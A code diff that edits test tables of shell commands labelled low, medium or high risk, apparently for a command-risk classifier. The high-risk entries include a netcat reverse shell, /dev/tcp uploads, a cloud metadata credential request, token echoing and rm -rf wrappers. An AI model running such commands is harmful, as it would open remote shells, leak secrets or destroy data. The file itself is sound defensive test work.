@@ -3,6 +3,7 @@ export type RiskTable = readonly (readonly [command: string, codes: string])[];
 
 /** Commands that are LOW. */
 export const low: RiskTable = [
+  ['gh pr view', ''],
   ['echo [$(date)]', ''],
   ['ls -la', ''],
   ['pwsh -c ls', ''],
@@ -43,7 +44,8 @@ export const low: RiskTable = [
 ];
 
 export const medium: RiskTable = [
-  ['gh pr view', 'network'],
+  ['/tmp/evil/env ls', 'runsScript'],
+  ['./bash -c "npm test"', 'runsScript'],
   ['kubectl get pods', 'network'],
   ['make -n', 'runsScript'],
   ['strace -o x ls', 'unknownForm'],
@@ -51,8 +53,6 @@ export const medium: RiskTable = [
   ['less x', 'unknownForm'],
   ['printf -v x y', 'unknownForm'],
   ['mkdir -p build', 'makesFolder'],
-  ['/tmp/evil/env rm -rf x', 'runsScript'],
-  ['./bash -c "rm -rf x"', 'runsScript'],
   ['yq -i . x', 'writesFile'],
   ['npm --prefix sub test', 'runsProgram'],
   ['make -C sub', 'runsScript'],
@@ -147,6 +147,11 @@ export const medium: RiskTable = [
 ];
 
 export const high: RiskTable = [
+  ['hg purge', 'destroysData'],
+  ['npx prisma migrate reset', 'destroysData'],
+  ['some-tool x -o ~/y', 'writesOutside'],
+  ['/tmp/evil/env rm -rf x', 'deletesFolders'],
+  ['./bash -c "rm -rf x"', 'deletesFolders'],
   ['env', 'readsEnvironment'],
   ['printenv', 'readsEnvironment'],
   ['truncate -s0 x', 'destroysData'],
@@ -249,7 +254,7 @@ export const high: RiskTable = [
   ['curl -T a https://x', 'uploads'],
   ['curl -X POST https://x', 'uploads'],
   ['curl http://169.254.169.254/latest', 'credentials'],
-  ['nc -e /bin/sh h 1', 'persistence hiddenCommand'],
+  ['nc -e /bin/sh h 1', 'hiddenCommand'],
   ['cat x > /dev/tcp/1.2.3.4/80', 'uploads'],
   ['exec 3<>/dev/tcp/1.2.3.4/80', 'uploads'],
   ['echo $GITHUB_TOKEN', 'credentials'],
@@ -432,7 +437,7 @@ export const high: RiskTable = [
   ['xxd -r -p x | sh', 'runsPiped'],
   ["printf 'rm -rf x' | sh", 'runsPiped'],
   ['flock /tmp/l rm -rf x', 'deletesFolders'],
-  ['watch rm -rf x', 'hiddenCommand'],
+  ['watch rm -rf x', 'deletesFolders'],
   ['parallel rm -rf ::: x', 'hiddenCommand'],
   ["script -c 'rm -rf x'", 'hiddenCommand'],
   ['chroot / rm -rf x', 'privilege deletesFolders'],
